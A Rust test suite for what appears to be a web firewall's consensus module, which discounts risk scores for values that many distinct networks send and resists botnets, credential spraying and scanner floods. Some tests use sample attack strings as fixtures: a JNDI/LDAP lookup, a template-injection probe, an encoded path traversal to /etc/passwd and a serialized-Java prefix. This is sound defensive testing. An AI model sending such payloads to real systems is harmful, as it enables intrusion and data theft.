use std::net::IpAddr;

use super::*;
use crate::config::{ConsensusConfig, IdentityConfig, DEFAULT_EXEMPT};
use crate::request::RequestView;
use crate::state::{MemStore, TableConfig};

const T0: u64 = 1_700_000_000_000;
/// The shipped model's thresholds.
const SHIPPED: Thresholds = Thresholds {
    annotate: 0.4098,
    deny: 0.9155,
};

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn config(min_clients: u32, min_age_ms: u64) -> ConsensusConfig {
    ConsensusConfig {
        min_clients,
        min_age_ms,
        window_ms: 600_000,
        ..ConsensusConfig::default()
    }
}

fn rules(min_clients: u32, min_age_ms: u64) -> Rules {
    Rules::of(&config(min_clients, min_age_ms))
}

/// A distinct /24 per `i`.
fn net(i: u32) -> ClientKey {
    ClientKey::new(IpAddr::from([10, (i >> 8) as u8, i as u8, 7]), None)
}

#[test]
fn record_size_is_pinned_and_roundtrips() {
    assert_eq!(ConsensusRecord::SIZE, 96);
    let mut r = ConsensusRecord::default();
    let rules = rules(4, 4000);
    for i in 0..3 {
        r.observe(net(i), T0 + u64::from(i) * 1500, &rules);
    }
    let mut buf = vec![0u8; ConsensusRecord::SIZE];
    r.encode(&mut buf);
    assert_eq!(ConsensusRecord::decode(&buf), r);
    assert_eq!(
        ConsensusRecord::decode(&buf[..7]),
        ConsensusRecord::default()
    );
}

#[test]
fn one_client_repeating_a_value_never_earns_consensus() {
    let rules = rules(4, 4000);
    let mut r = ConsensusRecord::default();
    let client = ClientKey::new(ip("203.0.113.9"), None);
    for t in 0..100 {
        r.observe(client, T0 + t * 1000, &rules);
    }
    assert_eq!(r.clients, 1);
    assert!(!r.qualifies(T0 + 100_000, &rules));
}

#[test]
fn addresses_of_one_network_are_one_client() {
    let rules = rules(4, 4000);
    let mut r = ConsensusRecord::default();
    for (i, a) in [
        "198.51.100.1",
        "198.51.100.77",
        "198.51.100.254",
        "::ffff:198.51.100.3",
    ]
    .iter()
    .enumerate()
    {
        r.observe(ClientKey::new(ip(a), None), T0 + i as u64 * 1500, &rules);
    }
    assert_eq!(r.clients, 1, "IPv4 /24");
    let mut r = ConsensusRecord::default();
    for (i, a) in [
        "2001:db8:1::1",
        "2001:db8:1:ffff::2",
        "2001:db8:1:42:dead:beef::9",
    ]
    .iter()
    .enumerate()
    {
        r.observe(ClientKey::new(ip(a), None), T0 + i as u64 * 1500, &rules);
    }
    assert_eq!(r.clients, 1, "IPv6 /48");
    assert_ne!(
        network_of(ip("2001:db8:1::1")),
        network_of(ip("2001:db8:2::1"))
    );
    assert_ne!(
        network_of(ip("198.51.100.1")),
        network_of(ip("198.51.101.1"))
    );
}

#[test]
fn one_credential_from_many_networks_or_many_credentials_from_one_network_is_one_client() {
    let rules = rules(4, 4000);
    let mut one_key = ConsensusRecord::default();
    let mut one_net = ConsensusRecord::default();
    for i in 0..40u32 {
        let t = T0 + u64::from(i) * 200;
        let key = ClientKey::new(IpAddr::from([10, 0, i as u8, 1]), Some(0xabc));
        one_key.observe(key, t, &rules);
        let stolen = ClientKey::new(ip("192.0.2.10"), Some(u64::from(i) + 1));
        one_net.observe(stolen, t, &rules);
    }
    assert_eq!((one_key.clients, one_net.clients), (1, 1));
    // Distinct principals on distinct networks are distinct clients.
    let mut r = ConsensusRecord::default();
    for i in 0..4u32 {
        let c = ClientKey::new(IpAddr::from([10, 0, i as u8, 1]), Some(u64::from(i) + 100));
        r.observe(c, T0 + u64::from(i) * 1100, &rules);
    }
    assert_eq!(r.clients, 4);
    assert!(r.qualifies(T0 + 4400, &rules));
}

#[test]
fn distinct_networks_spread_over_min_age_earn_consensus() {
    // 8 clients over 4 s: at most 2 per second-long quarter.
    let rules = rules(8, 4000);
    assert_eq!((rules.slot_ms, rules.slot_cap), (1000, 2));
    let mut r = ConsensusRecord::default();
    let mut i = 0;
    for slot in 0..4u64 {
        for _ in 0..2 {
            assert!(r.observe(net(i), T0 + slot * 1000 + u64::from(i), &rules));
            i += 1;
        }
    }
    assert_eq!(r.clients, 8);
    assert!(!r.qualifies(T0 + 3999, &rules), "younger than min_age");
    assert!(r.qualifies(T0 + 4000, &rules));
}

#[test]
fn a_burst_from_a_botnet_earns_a_quarter_of_min_clients_only() {
    let rules = Rules::of(&ConsensusConfig {
        min_clients: 20,
        min_age_ms: 3_600_000,
        ..ConsensusConfig::default()
    });
    let mut r = ConsensusRecord::default();
    for i in 0..1000 {
        r.observe(net(i), T0 + u64::from(i), &rules);
    }
    assert_eq!(r.clients, 5);
    // Long after, one more network: still 6 of 20.
    r.observe(net(5000), T0 + 7_200_000, &rules);
    assert_eq!(r.clients, 6);
    assert!(!r.qualifies(T0 + 7_200_000, &rules));
    // Networks turned away by the full quarter were not remembered: they count later.
    assert!(r.observe(net(999), T0 + 7_200_001, &rules));
}

#[test]
fn an_idle_value_starts_over_and_a_clock_stepping_back_opens_no_slot() {
    let rules = rules(2, 2000);
    let mut r = ConsensusRecord::default();
    r.observe(net(1), T0, &rules);
    r.observe(net(2), T0 + 1500, &rules);
    assert!(r.qualifies(T0 + 2000, &rules));
    r.observe(net(3), T0 + 2000 + 600_001, &rules);
    assert_eq!((r.clients, r.first_seen_ms), (1, T0 + 602_001));
    let mut r = ConsensusRecord::default();
    r.observe(net(1), T0 + 5000, &rules);
    r.observe(net(2), T0, &rules);
    r.observe(net(3), 0, &rules);
    assert_eq!((r.slot, r.clients), (0, 1), "cap 1 per slot, all in slot 0");
    assert!(!r.qualifies(T0, &rules));
}

#[test]
fn discount_is_bounded_and_shrinks_as_the_model_is_surer() {
    let d = 0.25;
    let close = |a: f32, b: f32| (a - b).abs() < 0.002;
    assert!(close(discounted(0.9155, SHIPPED.deny, d), 0.6655));
    assert!(
        close(discounted(0.93, SHIPPED.deny, d), 0.709),
        "{}",
        discounted(0.93, SHIPPED.deny, d)
    );
    assert!(
        close(discounted(0.97, SHIPPED.deny, d), 0.856),
        "{}",
        discounted(0.97, SHIPPED.deny, d)
    );
    assert!(close(discounted(0.6, SHIPPED.deny, d), 0.35));
    // A value the model is sure of stays denied.
    for risk in [0.984f32, 0.99, 0.999, 0.99999, 1.0] {
        assert!(discounted(risk, SHIPPED.deny, d) >= SHIPPED.deny, "{risk}");
    }
    assert!(discounted(0.98, SHIPPED.deny, d) < SHIPPED.deny);
    // Everywhere: never above the risk, never more than max_discount below, monotonic.
    for deny in [0.05f32, 0.3, 0.5, 0.9155, 0.99, 1.0] {
        for max in [0.01f32, 0.1, 0.25, 0.5] {
            let mut last = 0.0f32;
            for i in 0..=1000 {
                let risk = i as f32 / 1000.0;
                let to = discounted(risk, deny, max);
                assert!(to.is_finite() && to <= risk + 1e-6, "{risk} {deny} {max}");
                assert!(to >= risk - max - 1e-5, "{risk} {deny} {max}: {to}");
                assert!(to + 1e-6 >= last, "monotonic at {risk} {deny} {max}");
                last = to;
            }
        }
    }
    // Where deny - max_discount is at or below 0 the discount is plain subtraction.
    assert!(close(discounted(0.999, 0.2, 0.3), 0.699));
    assert!(discounted(f32::NAN, 0.9, 0.25).is_finite());
}

#[test]
fn only_values_a_discount_could_move_are_in_the_zone() {
    let c = Consensus::new(&ConsensusConfig::default()).unwrap();
    assert!(!c.in_zone(0.2, SHIPPED), "benign: nothing recorded");
    assert!(c.in_zone(0.5, SHIPPED), "annotate -> allow");
    assert!(
        !c.in_zone(0.8, SHIPPED),
        "stays annotated whatever consensus says"
    );
    assert!(c.in_zone(0.93, SHIPPED), "deny -> annotate");
    assert!(
        !c.in_zone(0.995, SHIPPED),
        "a clear attack never touches the table"
    );
}

fn candidate<'a>(raw: &'a str, class: &'a str, share: f32) -> Candidate<'a> {
    Candidate {
        location: "header:user-agent",
        raw,
        class,
        exempt_share: share,
        risk: 0.93,
    }
}

#[test]
fn hard_classes_their_share_and_their_syntax_are_exempt() {
    let c = Consensus::new(&ConsensusConfig::default()).unwrap();
    let why = |raw: &str, class: &str, share: f32| {
        let n = decode::decoded(raw).text.into_owned();
        c.exemption(&candidate(raw, class, share), &n)
    };
    for class in DEFAULT_EXEMPT {
        assert_eq!(why("x", class, 0.0), Some(format!("class {class}")));
    }
    assert!(why("x", "cmdi", 0.4)
        .unwrap()
        .contains("40% of its attack probability"));
    assert_eq!(why("x", "cmdi", 0.3), None);
    assert_eq!(
        why("${jndi:ldap://203.0.113.9/a}", "cmdi", 0.0),
        Some("jndi (${)".into())
    );
    assert_eq!(
        why("Go-http-client/1.1 {{7*7}}", "xss", 0.0),
        Some("ssti ({{)".into())
    );
    assert_eq!(
        why("..%2f..%2fetc%2fpasswd", "xss", 0.0),
        Some("path_traversal (../)".into())
    );
    assert_eq!(
        why("rO0ABXNyABFqYXZh", "sqli", 0.0),
        Some("deserialization (ro0ab)".into())
    );
    assert_eq!(
        why(
            "ExampleGo/3.2.1 (+github.com/example; go1.22.5)",
            "xss",
            0.0
        ),
        None
    );
    // Classes taken out of the list lose their markers too (the three hard ones cannot be).
    let mut cfg = ConsensusConfig::default();
    cfg.exempt_classes.retain(|c| c != "deserialization");
    let c = Consensus::new(&cfg).unwrap();
    assert_eq!(
        c.exemption(&candidate("rO0ABXNy", "sqli", 0.0), "rO0ABXNy"),
        None
    );
}

fn facts(client: Option<&str>, principal: Option<&str>) -> RequestFacts {
    let mut view = RequestView::new("GET", b"/api/users/42");
    view.client.ip = client.map(str::to_string);
    if let Some(key) = principal {
        view.headers
            .push(("x-api-key".into(), key.as_bytes().to_vec()));
    }
    let identity: IdentityConfig = crate::config::Config::default().identity;
    RequestFacts::from_view(&view, &identity, false)
}

const UA: &str = "Integration/1.0 (pytest; nightly) acme-sdk/2.4.0 (Python/3.11.7; Linux/x86_64)";

#[test]
fn a_value_many_networks_send_over_min_age_is_discounted_then_and_only_then() {
    let c = Consensus::new(&config(4, 4000)).unwrap();
    let store = MemStore::new();
    let ua = candidate(UA, "xss", 0.0);
    let at = |client: &str, t: u64| {
        c.assess(&store, &facts(Some(client), None), &ua, SHIPPED, true, t)
            .unwrap()
    };
    // One client repeating it: recorded, never discounted.
    for t in 0..6 {
        assert_eq!(
            at("203.0.113.9", T0 + t * 100),
            Some(Outcome::Recorded { clients: 1 })
        );
    }
    for (i, t) in [(1, 1100), (2, 2200), (3, 3300)] {
        assert_eq!(
            at(&format!("198.51.{i}.1"), T0 + t),
            Some(Outcome::Recorded { clients: i + 1 })
        );
    }
    // Old enough now: discounted, and the reason says so.
    let Some(Outcome::Discounted(d)) = at("203.0.113.9", T0 + 4000) else {
        panic!("not discounted");
    };
    assert_eq!((d.clients, d.age_ms, d.from), (4, 4000, 0.93));
    assert!((d.to - 0.709).abs() < 0.002, "{}", d.to);
    assert_eq!(
        d.reason(),
        "consensus: 4 clients since 4s on header:user-agent, risk 0.930 -> 0.709"
    );
    // The same value on another route, or mutated, has no consensus.
    let other = candidate(
        "Integration/1.0 (pytest; nightly) acme-sdk/2.4.1 (Python/3.11.7; Linux/x86_64)",
        "xss",
        0.0,
    );
    assert_eq!(
        c.assess(
            &store,
            &facts(Some("203.0.113.9"), None),
            &other,
            SHIPPED,
            true,
            T0 + 5000
        )
        .unwrap(),
        Some(Outcome::Recorded { clients: 1 })
    );
    assert_ne!(
        value_fingerprint(1, "header:user-agent", UA),
        value_fingerprint(2, "header:user-agent", UA)
    );
}

#[test]
fn a_value_with_consensus_seen_again_by_a_known_client_is_read_not_written() {
    let c = Consensus::new(&config(2, 1000)).unwrap();
    let store = MemStore::new();
    let ua = candidate(UA, "xss", 0.0);
    let at =
        |client: &str, t: u64| c.assess(&store, &facts(Some(client), None), &ua, SHIPPED, true, t);
    at("198.51.1.1", T0).unwrap();
    at("198.51.2.1", T0 + 600).unwrap();
    assert!(matches!(
        at("198.51.1.1", T0 + 1000),
        Ok(Some(Outcome::Discounted(_)))
    ));
    // Any write would now fail: a known client of a qualified value needs none.
    store.fail_next_sets(100);
    for t in [1001, 2000, 60_000] {
        assert!(
            matches!(at("198.51.2.1", T0 + t), Ok(Some(Outcome::Discounted(_)))),
            "{t}"
        );
    }
    // A new client is credited, and a sighting older than window / 8 is refreshed: both write.
    assert!(at("198.51.3.1", T0 + 60_001).is_err());
    assert!(at("198.51.2.1", T0 + 60_000 + 75_000).is_err());
    store.fail_next_sets(0);
    assert!(
        matches!(at("198.51.3.1", T0 + 200_000), Ok(Some(Outcome::Discounted(d))) if d.clients == 3)
    );
}

#[test]
fn nothing_is_counted_or_discounted_under_suspicion_without_a_network_or_outside_the_zone() {
    let c = Consensus::new(&config(2, 1000)).unwrap();
    let store = MemStore::new();
    let ua = candidate(UA, "xss", 0.0);
    let f = facts(Some("203.0.113.9"), None);
    assert_eq!(c.assess(&store, &f, &ua, SHIPPED, false, T0).unwrap(), None);
    assert_eq!(
        c.assess(&store, &facts(None, None), &ua, SHIPPED, true, T0)
            .unwrap(),
        None
    );
    let clear_attack = Candidate { risk: 0.999, ..ua };
    assert_eq!(
        c.assess(&store, &f, &clear_attack, SHIPPED, true, T0)
            .unwrap(),
        None
    );
    let jndi = candidate("${jndi:ldap://x/a}", "jndi", 0.9);
    assert_eq!(
        c.assess(&store, &f, &jndi, SHIPPED, true, T0).unwrap(),
        Some(Outcome::Exempt("class jndi".into()))
    );
    assert_eq!(store.key_count(), 0, "none of these wrote shared data");
    let off = Consensus::new(&ConsensusConfig {
        enabled: false,
        ..config(2, 1000)
    })
    .unwrap();
    assert_eq!(
        off.assess(&store, &f, &ua, SHIPPED, true, T0).unwrap(),
        None
    );
}

#[test]
fn a_principal_sprayed_from_many_networks_earns_no_consensus() {
    let c = Consensus::new(&config(3, 3000)).unwrap();
    let store = MemStore::new();
    let ua = candidate(UA, "xss", 0.0);
    let mut last = None;
    for i in 0..30u64 {
        let f = facts(Some(&format!("10.{i}.0.1")), Some("k-attacker"));
        last = c
            .assess(&store, &f, &ua, SHIPPED, true, T0 + i * 500)
            .unwrap();
    }
    assert_eq!(last, Some(Outcome::Recorded { clients: 1 }));
}

#[test]
fn a_flood_of_distinct_values_stays_in_the_table_bound_and_spares_values_with_consensus() {
    let cfg = ConsensusConfig {
        table: TableConfig {
            buckets: 8,
            entries_per_bucket: 4,
            max_retries: 4,
        },
        ..config(2, 1000)
    };
    let c = Consensus::new(&cfg).unwrap();
    let store = MemStore::new();
    let ua = candidate(UA, "xss", 0.0);
    c.assess(
        &store,
        &facts(Some("198.51.1.1"), None),
        &ua,
        SHIPPED,
        true,
        T0,
    )
    .unwrap();
    c.assess(
        &store,
        &facts(Some("198.51.2.1"), None),
        &ua,
        SHIPPED,
        true,
        T0 + 600,
    )
    .unwrap();
    let f = facts(Some("198.51.3.1"), None);
    assert!(matches!(
        c.assess(&store, &f, &ua, SHIPPED, true, T0 + 1000).unwrap(),
        Some(Outcome::Discounted(_))
    ));
    // A scanner's mutations: 20,000 distinct values from one client.
    for i in 0..20_000u64 {
        let raw = format!("{UA} v{i}");
        let v = candidate(&raw, "xss", 0.0);
        let out = c
            .assess(&store, &f, &v, SHIPPED, true, T0 + 1001 + i)
            .unwrap();
        assert_eq!(out, Some(Outcome::Recorded { clients: 1 }));
    }
    let bound = c.table().bytes_bound();
    assert_eq!(bound, 8 * (5 + 4 * (16 + 96)));
    assert!(store.value_bytes() <= bound && store.key_count() <= 8);
    assert!(matches!(
        c.assess(&store, &f, &ua, SHIPPED, true, T0 + 30_000).unwrap(),
        Some(Outcome::Discounted(d)) if d.clients == 3
    ));
}

#[test]
fn table_errors_are_returned_not_panicked() {
    struct Broken;
    impl SharedStore for Broken {
        fn get(&self, _: &str) -> Result<Option<(Vec<u8>, u32)>, crate::state::StoreError> {
            Err(crate::state::StoreError::Host { status: 2 })
        }
        fn set(&self, _: &str, _: &[u8], _: u32) -> Result<(), crate::state::StoreError> {
            Err(crate::state::StoreError::Host { status: 2 })
        }
    }
    let c = Consensus::new(&config(2, 1000)).unwrap();
    let f = facts(Some("203.0.113.9"), None);
    let err = c
        .assess(&Broken, &f, &candidate(UA, "xss", 0.0), SHIPPED, true, T0)
        .unwrap_err();
    assert!(
        err.to_string().starts_with("state table consensus:"),
        "{err}"
    );
}
